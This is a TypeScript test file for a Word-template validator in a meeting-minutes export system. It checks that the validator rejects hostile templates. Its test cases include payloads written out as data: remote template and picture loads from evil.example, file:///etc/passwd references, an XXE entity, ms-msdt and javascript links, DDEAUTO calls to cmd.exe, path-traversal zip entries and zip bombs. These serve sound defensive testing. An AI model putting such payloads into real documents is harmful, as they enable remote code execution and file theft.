/** A body's own Word file as letterhead: what goes into it, and what is turned away. */
import { Paragraph } from "docx"
import { afterAll, expect, test } from "vitest"
import { zipSync } from "fflate"
import { exampleActa } from "#server/actas/example-acta.ts"
import { checkedTemplate } from "#server/exporters/docx/check.ts"
import { unpacked } from "#server/exporters/docx/unpack.ts"
import { usualOptions } from "#server/exporters/port.ts"
import { closeExporters } from "#server/exporters/registry.ts"
import { actaOf, draft, item, letterhead, paragraph, sealed } from "./actas.ts"
import { joined, made, wordHtml, wordParts, wordText } from "./files.ts"
import { changed, template, usualContent, withParts } from "./templates.ts"

afterAll(closeExporters)

const checked = async (file: Uint8Array | Promise<Uint8Array>): Promise<Uint8Array> => {
  const outcome = checkedTemplate(await file)
  if ("fault" in outcome) throw new Error(`the template has the fault ${outcome.fault}`)
  return outcome.bytes
}
const faultOf = async (file: Uint8Array | Promise<Uint8Array>) => {
  const outcome = checkedTemplate(await file)
  return "fault" in outcome ? outcome.fault : "none"
}
const inTemplate = async (acta = exampleActa(), stamp = sealed, file: Uint8Array | Promise<Uint8Array> = template()) =>
  made("docx", acta, stamp, "es", usualOptions, { ...letterhead(), template: await checked(file) })

test("the acta stands where the file says so, between what the file has around it", async () => {
  const text = joined(await wordText(await inTemplate()))
  expect(text).toMatch(/^ActadeReuniónN°4MesadeGobiernoAbiertoTextofijoantes.*Textofijodespués$/)
  for (const part of ["Gonzalo Guerrero", "Acuerdo 4.1", "T4.1", "planificación.", "Sello del acta"])
    expect(text).toContain(joined(part))
  expect(text).not.toContain("{{")
})

test("headings take the styles of the file by their names, and number themselves all the same", async () => {
  const docx = await inTemplate()
  const { "word/document.xml": xml = "", "word/styles.xml": styles = "", ...parts } = wordParts(docx)
  expect(xml.match(/<w:pStyle w:val="Ttulo1"\/>/g)).toHaveLength(3)
  expect(xml).not.toContain('w:val="Heading1"')
  expect(styles).toContain('w:styleId="ActaAgreement"')
  const section = /<w:pStyle w:val="Ttulo1"\/>.*?<w:numId w:val="(\d+)"\/>/.exec(xml)?.[1] ?? ""
  const list = new RegExp(`<w:num w:numId="${section}"[^>]*><w:abstractNumId w:val="(\\d+)"`).exec(
    parts["word/numbering.xml"] ?? "",
  )
  expect(parts["word/numbering.xml"]).toMatch(
    new RegExp(`<w:abstractNum w:abstractNumId="${list?.[1]}".*?upperRoman`, "s"),
  )
  expect(await wordHtml(docx)).toContain("<h2>")
})

test("headers, footers and pictures stay as they were", async () => {
  const parts = wordParts(await inTemplate())
  const head = Object.entries(parts).find(([name, xml]) => name.startsWith("word/header") && xml.includes("Ilustre"))
  expect(head).toBeDefined()
  expect(Object.keys(parts).some((name) => name.startsWith("word/media/"))).toBe(true)
  expect(Object.values(parts).join("")).toContain("mailto:actas@ejemplo.cl")
})

test("a draft says so above its text, and a file without a place for the title gets it with the text", async () => {
  const plain = template([new Paragraph("{{contenido}}")])
  const text = joined(await wordText(await inTemplate(exampleActa(), draft, plain)))
  expect(text).toMatch(/^BORRADORActadeReuniónN°4/)
})

test("double braces of the acta's own are printed as they stand", async () => {
  const acta = actaOf(item("{{contenido}}", [paragraph("{{titulo}} y {{contenido}}")]))
  const text = await wordText(await inTemplate({ ...acta, title: "Sobre {{contenido}}" }))
  expect(text).toContain("{{titulo}} y {{contenido}}")
  expect(text).toContain("Sobre {{contenido}}")
})

test("the same acta in the same file is the same bytes, and holds this acta's data alone", async () => {
  const file = await template()
  const [one, two] = [await inTemplate(exampleActa(), sealed, file), await inTemplate(exampleActa(), sealed, file)]
  expect(Buffer.compare(one, two)).toBe(0)
  // A secretary may well take an exported acta for a template.
  const again = await inTemplate(
    actaOf(item("Otra")),
    sealed,
    changed(one, (name, xml) =>
      name === "word/document.xml" ? xml.replace("Texto fijo antes", "{{contenido}}") : xml,
    ),
  )
  const data = Object.entries(wordParts(again)).filter(
    ([name, xml]) => name.startsWith("customXml/item") && xml.includes("base64"),
  )
  expect(data).toHaveLength(1)
  expect(Buffer.from(/"base64">([^<]*)/.exec(data[0]?.[1] ?? "")?.[1] ?? "", "base64").toString()).toContain("Otra")
})

const relation =
  (type: string, target: string, mode = "") =>
  (name: string, xml: string) =>
    name === "word/_rels/document.xml.rels"
      ? xml.replace(
          "</Relationships>",
          `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
        )
      : xml
const external = ' TargetMode="External"'
const inText = (markup: string) => (name: string, xml: string) =>
  name === "word/document.xml" ? xml.replace("</w:body>", `${markup}</w:body>`) : xml

test("what would run, load or open something is refused", async () => {
  const file = await template()
  const field = (...parts: string[]) =>
    inText(`<w:p>${parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join("")}</w:p>`)
  const cases: [Uint8Array, string][] = [
    [withParts(file, { "word/vbaProject.bin": "x" }), "macros"],
    [withParts(file, { "word/embeddings/oleObject1.bin": "x" }), "macros"],
    [withParts(file, { "word/activeX/activeX1.xml": "<x/>" }), "macros"],
    [changed(file, (_, xml) => xml.replace("document.main+xml", "document.macroEnabled.main+xml")), "macros"],
    [changed(file, relation("image", "http://127.0.0.1:9/x.png", external)), "external"],
    [changed(file, relation("image", "file:///etc/passwd", external)), "external"],
    [changed(file, relation("attachedTemplate", "http://evil.example/x.dotm", external)), "external"],
    [changed(file, relation("hyperlink", "javascript:alert(1)", external)), "external"],
    [changed(file, relation("hyperlink", "ms-msdt:/id", external)), "external"],
    [changed(file, relation("image", "\\\\evil\\share\\x.png")), "external"],
    [changed(file, relation("aFChunk", "chunk.html")), "macros"],
    [changed(file, relation("oleObject", "x.xml")), "macros"],
    [changed(file, relation("subDocument", "x.xml")), "content"],
    [changed(file, inText('<w:altChunk r:id="rId1"/>')), "macros"],
    [changed(file, field("INCLUDEPICTURE http://evil.example/x")), "fields"],
    [changed(file, field("INCLU", "DETEXT c:\\x")), "fields"],
    [changed(file, field("DDEAU&#84;O c:\\\\windows\\\\system32\\\\cmd.exe")), "fields"],
    [changed(file, inText('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>')), "fields"],
    [
      changed(file, (_, xml) =>
        xml.replace(/<w:document/, '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document'),
      ),
      "content",
    ],
    [withParts(file, { "word/media/x.svg": "<svg/>" }), "content"],
    [withParts(file, { "word/media/x.emf": "x" }), "content"],
    [withParts(file, { "word/media/x.png": "no picture" }), "content"],
    [withParts(file, { "setup.exe": "MZ" }), "content"],
    [template([new Paragraph("sin lugar")]), "placeholder"],
  ].map(([each, fault]) => [each as Uint8Array, fault as string])
  for (const [index, [each, fault]] of cases.entries())
    expect(await faultOf(each), `case ${index}: ${fault}`).toBe(fault)
  expect(await faultOf(file)).toBe("none")
})

test("a file that is no Word file, or contradicts itself, is refused", async () => {
  const file = await template()
  for (const text of ["", "%PDF-1.7", "PK\u0003\u0004", "<html></html>"])
    expect(await faultOf(new TextEncoder().encode(text)), text).toBe("kind")
  expect(await faultOf(zipSync({ "a.txt": new Uint8Array(3) }))).toBe("kind")
  for (const path of ["../../x", "/etc/cron.d/x", "C:\\x"])
    expect(await faultOf(withParts(file, { [path]: "x" })), path).toBe("kind")
  expect(await faultOf(withParts(file, { "WORD/Document.xml": "<x/>" })), "twice").toBe("kind")
  for (let cut = 1; cut < 60; cut += 7) expect(await faultOf(file.subarray(0, file.length - cut))).toBe("kind")
})

test("a bomb is stopped while it is inflated, whatever size it claims", async () => {
  const file = await template()
  const bomb = withParts(file, { "word/media/x.xml": new Uint8Array(60_000_000) })
  expect(bomb.length).toBeLessThan(200_000)
  expect(await faultOf(bomb)).toBe("large")
  // The directory says it is small.
  const lying = bomb.slice()
  const view = new DataView(lying.buffer)
  for (let at = 0; at < lying.length - 46; at++)
    if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) === 60_000_000)
      view.setUint32(at + 24, 10, true)
  expect(await faultOf(lying)).toBe("large")
  const many = Object.fromEntries(Array.from({ length: 501 }, (_, at) => [`word/x${at}.xml`, ""]))
  expect(await faultOf(withParts(file, many))).toBe("large")
})

test("entries that share bytes, hide behind another name or are encrypted are not read", async () => {
  const file = withParts(await template(usualContent()), { "word/a.xml": "aaaaaaaaaa", "word/b.xml": "bbbbbbbbbb" })
  expect(unpacked(file)).toBeInstanceOf(Map)
  const directoryEntry = (name: string, bytes: Uint8Array) => {
    const at = Buffer.from(bytes).lastIndexOf(name)
    return { view: new DataView(bytes.buffer), at: at - 46, local: Buffer.from(bytes).indexOf(name) }
  }
  const shared = file.slice()
  const [a, b] = [directoryEntry("word/a.xml", shared), directoryEntry("word/b.xml", shared)]
  b.view.setUint32(b.at + 42, a.view.getUint32(a.at + 42, true), true)
  expect(unpacked(shared)).toBe("zip")
  const hidden = file.slice()
  hidden[directoryEntry("word/a.xml", hidden).local] = 0x57
  expect(unpacked(hidden)).toBe("zip")
  const encrypted = file.slice()
  const { view, at } = directoryEntry("word/a.xml", encrypted)
  view.setUint16(at + 8, 1, true)
  expect(unpacked(encrypted)).toBe("zip")
})
